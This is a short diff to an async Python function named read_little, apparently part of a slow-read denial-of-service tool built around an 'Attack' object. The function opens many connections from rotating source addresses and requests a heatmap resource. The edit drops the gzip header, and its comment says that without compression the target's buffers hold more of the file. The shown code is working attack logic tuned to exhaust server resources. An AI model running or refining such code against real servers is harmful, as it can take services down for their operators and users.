@@ -296,8 +296,8 @@ async def read_little(attack: Attack, *, every: float | None) -> None:
         client.bind((source(number % 8), 0))
         try:
             await loop.sock_connect(client, (parts.hostname, parts.port))
-            packed = "Accept-Encoding: gzip\r\n" if number % 4 else ""
-            head = f"GET {HEATMAP} HTTP/1.1\r\nHost: {parts.netloc}\r\n{packed}\r\n"
+            # Without compression: the system's own buffers would hold most of the packed file.
+            head = f"GET {HEATMAP} HTTP/1.1\r\nHost: {parts.netloc}\r\n\r\n"
             await loop.sock_sendall(client, head.encode())
             attack.answers["asked"] += 1
             while every is None:
